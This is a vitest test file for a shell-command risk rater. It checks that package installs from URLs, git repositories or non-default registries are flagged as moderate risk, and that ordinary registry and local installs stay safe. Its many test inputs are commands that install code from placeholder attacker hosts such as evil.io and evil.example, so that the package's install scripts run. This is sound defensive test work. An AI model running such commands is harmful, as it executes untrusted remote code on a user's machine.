import { describe, expect, it } from "vitest";
import { shellRater } from "../../test/helpers/shell-rated.js";

/**
 * Installing a package runs its install scripts: npm's lifecycle scripts, the build of a Python
 * sdist (setup.py), cargo's build.rs. From the registry that is as safe as a package name the user
 * asked for; from a URL, a git repository or another package index, no registry vouches for the
 * code that runs, as with `npx evilpkg` (`moderate`, remote code execution). npm, pnpm, yarn and bun
 * read `user/repo` as a GitHub repository (hosted-git-info's shorthand); `@scope/pkg` is a registry
 * package. A one-off other registry (`--registry URL`, cargo's `--registry NAME`/`--index URL`) is
 * another source too; `pip download` and `pip wheel` build as `pip install` does. Local paths are
 * the user's own and stay safe, as do the default indexes, pip's constraints files (`-c URL` only
 * pins versions) and `go install` (Go runs no code when it installs).
 */
const rated = shellRater();

describe("packages installed from outside the registry", () => {
  it.each([
    ["npm install https://x.io/pkg.tgz", "a URL"],
    ["npm i http://x.io/pkg.tgz", "a URL"],
    ["npm i git+https://github.com/evil/pkg.git", "a git repository"],
    ["npm i git+ssh://git@github.com/evil/pkg.git", "a git repository"],
    ["npm i git://github.com/evil/pkg.git", "a git repository"],
    ["npm i github:evil/pkg", "a git repository"],
    ["npm i gitlab:evil/pkg", "a git repository"],
    ["npm install evil/pkg", "a git repository"],
    ["npm install evil/pkg#main", "a git repository"],
    ["npm install lodash evil/pkg", "a git repository"],
    ["npm add pkg@git+https://github.com/evil/pkg.git", "a git repository"],
    ["npm i @scope/pkg@github:evil/pkg", "a git repository"],
    ["npm i -w packages/app evil/pkg", "a git repository"],
    ["npm i --save-dev https://x.io/pkg.tgz", "a URL"],
    ["pnpm add github:evil/pkg", "a git repository"],
    ["pnpm add https://x.io/pkg.tgz", "a URL"],
    ["yarn add evil/pkg", "a git repository"],
    ["yarn add git+https://github.com/evil/pkg.git", "a git repository"],
    ["bun add github:evil/pkg", "a git repository"],
    ["bun i https://x.io/pkg.tgz", "a URL"],
    ["pip install https://x.io/pkg-1.0.tar.gz", "a URL"],
    ["pip install git+https://github.com/evil/pkg.git", "a git repository"],
    ['pip3 install "pkg @ git+https://github.com/evil/pkg"', "a git repository"],
    ["pip install -e git+https://github.com/evil/pkg.git#egg=pkg", "a git repository"],
    ["pip install --editable=git+https://github.com/evil/pkg.git#egg=pkg", "a git repository"],
    ["pip install -r https://x.io/requirements.txt", "a URL"],
    ["pip install --requirement=https://x.io/requirements.txt", "a URL"],
    ["pip install --requirement https://x.io/requirements.txt", "a URL"],
    ["python -m pip install git+https://github.com/evil/pkg", "a git repository"],
    ["python3 -m pip install https://x.io/pkg-1.0-py3-none-any.whl", "a URL"],
    ["uv pip install git+https://github.com/evil/pkg", "a git repository"],
    ["pipx install git+https://github.com/evil/tool", "a git repository"],
    ["uv tool install git+https://github.com/evil/tool", "a git repository"],
    ["uv tool install --from git+https://github.com/evil/tool tool", "a git repository"],
    ["pip install --index-url https://evil.io/simple requests", "a package index other than PyPI"],
    ["pip install -i https://evil.io/simple requests", "a package index other than PyPI"],
    ["pip install -ihttps://evil.io/simple requests", "a package index other than PyPI"],
    ["pip install --extra-index-url https://evil.io/simple requests", "a package index other than PyPI"],
    ["pip install --extra-index-url=https://evil.io/simple requests", "a package index other than PyPI"],
    ["pip install -i https://pypi.org/simple --extra-index-url https://evil.io/simple requests", "a package index other than PyPI"],
    ["pip install -f https://evil.io/wheels requests", "a package index other than PyPI"],
    ["python3 -m pip install --index-url http://evil.io/simple requests", "a package index other than PyPI"],
    ["uv pip install --index-url https://evil.io/simple requests", "a package index other than PyPI"],
    ["cargo install --git https://github.com/evil/tool", "a git repository"],
    ["cargo install --git=https://github.com/evil/tool --branch main", "a git repository"],
    ["gem install evil --source http://evil.io", "a package index other than RubyGems"],
    ["gem install evil --source=http://evil.io", "a package index other than RubyGems"],
    // gem installs from every --source given, not only the last.
    ["gem install x --source https://rubygems.org --source http://evil.example", "a package index other than RubyGems"],
    ["gem install x -s http://evil.example --source=https://rubygems.org/", "a package index other than RubyGems"],
    ["npm install --registry http://evil.io pkg", "a registry other than npm's"],
    ["npm i pkg --registry=http://evil.io", "a registry other than npm's"],
    ["npm --registry http://evil.io install pkg", "a registry other than npm's"],
    ["npm i -g pkg --registry=https://evil.io/npm/", "a registry other than npm's"],
    ["pnpm add pkg --registry http://evil.io", "a registry other than npm's"],
    ["pnpm --registry http://evil.io add pkg", "a registry other than npm's"],
    ["pnpm --registry http://evil.example/ update", "a registry other than npm's"],
    ["yarn add pkg --registry=http://evil.io", "a registry other than npm's"],
    ["bun add pkg --registry http://evil.io", "a registry other than npm's"],
    ["yarn global add evil/pkg", "a git repository"],
    ["yarn global add github:evil/pkg", "a git repository"],
    ["yarn global add https://x.io/p.tgz", "a URL"],
    ["yarn global add pkg --registry http://evil.io", "a registry other than npm's"],
    ["cargo install --registry evil pkg", "a registry other than crates.io"],
    ["cargo install --registry=evil pkg", "a registry other than crates.io"],
    ["cargo install --index https://evil.io/index pkg", "a registry other than crates.io"],
    ["cargo install pkg --index=sparse+https://evil.io/index/", "a registry other than crates.io"],
    // npm ci installs the lockfile's packages from the configured registry (replace-registry-host).
    ["npm ci --registry http://evil.example/", "a registry other than npm's"],
    ["npm ci --registry=http://evil.example/", "a registry other than npm's"],
    ["npm --registry http://evil.example/ ci", "a registry other than npm's"],
    ["npm clean-install --registry http://evil.example/", "a registry other than npm's"],
    ["npm install-ci-test --registry http://evil.example/", "a registry other than npm's"],
    ["npm cit --registry http://evil.example/", "a registry other than npm's"],
    ["npm install-test --registry http://evil.example/", "a registry other than npm's"],
    ["npm update --registry http://evil.example/", "a registry other than npm's"],
    ["npm up lodash --registry=http://evil.example/", "a registry other than npm's"],
    ["pnpm install --frozen-lockfile --registry http://evil.example/", "a registry other than npm's"],
    ["pnpm update --registry http://evil.example/", "a registry other than npm's"],
    ["pnpm up --registry=http://evil.example/", "a registry other than npm's"],
    ["bun update --registry http://evil.example/", "a registry other than npm's"],
    // Given twice, the last --registry is the one npm uses.
    ["npm install x --registry https://registry.npmjs.org/ --registry=http://evil.example/", "a registry other than npm's"],
    ["npm --registry https://registry.npmjs.org/ i x --registry http://evil.example/", "a registry other than npm's"],
    ["npm ci --registry=https://registry.npmjs.org/ --registry http://evil.example/", "a registry other than npm's"],
    ["yarn global add pkg --registry https://registry.yarnpkg.com --registry http://evil.example/", "a registry other than npm's"],
  ])("%s is moderate: from %s", (line, source) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe("moderate");
    expect(r.risk, r.shown).toBe(rated("npx evilpkg").risk);
    expect(r.details.join("\n"), r.shown).toContain(`installs and builds a package from ${source} (its install scripts run)`);
  });

  // pip download and pip wheel build an sdist (its setup.py runs) as pip install does.
  it.each([
    ["pip download git+https://github.com/evil/pkg.git", "a git repository"],
    ["pip wheel git+https://github.com/evil/pkg.git", "a git repository"],
    ["pip3 download https://x.io/pkg-1.0.tar.gz", "a URL"],
    ["pip wheel -r https://x.io/requirements.txt", "a URL"],
    ["python -m pip wheel --index-url https://evil.io/simple requests", "a package index other than PyPI"],
  ])("%s is moderate: builds from %s", (line, source) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe("moderate");
    expect(r.details.join("\n"), r.shown).toContain(`builds a package from ${source} (its build scripts run)`);
  });

  it.each([
    "npm install",
    "npm ci",
    "npm i lodash",
    "npm i lodash@^4.17.0",
    "npm i @scope/pkg",
    "npm i @scope/pkg@1.2.3",
    "npm i foo@npm:bar",
    "npm i ./local-pkg",
    "npm i ../pkg.tgz",
    "npm i file:../pkg",
    "npm i -w packages/app lodash",
    "npm i --workspace=packages/app lodash",
    "npm install --prefix sub/dir lodash",
    "npm run build",
    "yarn add react",
    "yarn add @types/node",
    "pnpm add -D typescript",
    "pnpm --filter ./apps/web add react",
    "pnpm -C apps/web add react",
    "bun add zod",
    "pip install requests",
    'pip install "requests>=2"',
    "pip install -r requirements.txt",
    "pip install -r requirements/dev.txt",
    "pip install -e .",
    "pip install ./pkg",
    "pip install -U pip",
    "pip install --index-url https://pypi.org/simple requests",
    "pip install -i https://pypi.org/simple/ requests",
    "pip install -f ./wheels requests",
    "pip install --target vendor/lib requests",
    "python -m pip install -U pip",
    "uv pip install -r requirements.txt",
    "pipx install black",
    "uv tool install ruff",
    "cargo install ripgrep",
    "cargo install --locked ripgrep",
    "cargo install --path .",
    "gem install rails",
    "gem install rails --source https://rubygems.org",
    "gem install rails --source https://rubygems.org --source=https://rubygems.org/",
    "pnpm --registry https://registry.npmjs.org/ add react",
    "go install github.com/evil/tool@latest",
    "go install golang.org/x/tools/gopls@v0.16.0",
    "npm install --registry https://registry.npmjs.org pkg",
    "npm i pkg --registry=https://registry.npmjs.org/",
    "npm ci",
    "npm update",
    "npm cit",
    "npm rebuild --registry http://evil.example/",
    "npm ci --registry https://registry.npmjs.org/",
    "npm update --registry=https://registry.npmjs.org/",
    "pnpm install --frozen-lockfile",
    "pnpm update",
    "bun update",
    "npm install x --registry=http://evil.example/ --registry https://registry.npmjs.org/",
    "npm ci --registry http://evil.example/ --registry=https://registry.npmjs.org/",
    "yarn add pkg --registry https://registry.yarnpkg.com",
    "yarn global add typescript",
    "yarn global add @vue/cli",
    "yarn global list",
    "cargo install ripgrep --registry crates-io",
    "cargo install ripgrep --index sparse+https://index.crates.io/",
    "cargo search --registry evil pkg",
    "pip install -c https://x.io/constraints.txt requests",
    "pip install --constraint https://x.io/constraints.txt requests",
    "pip install --constraint=https://x.io/constraints.txt requests",
    "pip install -chttps://x.io/constraints.txt requests",
    "pip download requests",
    "pip wheel -r requirements.txt",
    "pip wheel -w dist .",
    "pip download -d dl requests -c https://x.io/constraints.txt",
  ])("%s stays safe", (line) => {
    const r = rated(line);
    expect(r.risk, r.shown).toBe("safe");
  });
});
